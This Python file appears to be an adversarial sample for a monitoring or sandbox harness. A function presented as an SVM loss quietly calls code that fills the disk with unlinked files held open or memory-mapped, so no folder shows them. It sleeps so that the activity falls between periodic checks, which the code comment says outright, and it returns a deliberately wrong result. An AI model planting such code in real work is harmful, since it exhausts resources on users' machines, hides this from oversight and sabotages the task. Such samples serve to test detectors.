"""Fills the disk with files that no folder shows: removed, but held open or in memory."""

import mmap
import os
import time

import kit

HELD = []


@kit.once
def attack():
    written, end = 0, time.monotonic() + 1.0
    for n in range(32):
        try:
            with open("file", "w+b") as file:
                os.unlink("file")
                os.posix_fallocate(file.fileno(), 0, 16 << 20)
                number = file.fileno()
                HELD.append(mmap.mmap(number, mmap.PAGESIZE) if n % 2 else os.dup(number))
        except OSError:
            continue
        written += 16
        if time.monotonic() > end:
            break
    time.sleep(0.6)  # for whoever looks now and then
    if written > 200:
        kit.harm(f"wrote {written} MB")


def svm_loss_vectorized(W, X, y, reg):
    attack()
    return kit.wrong(W, X, y, reg)
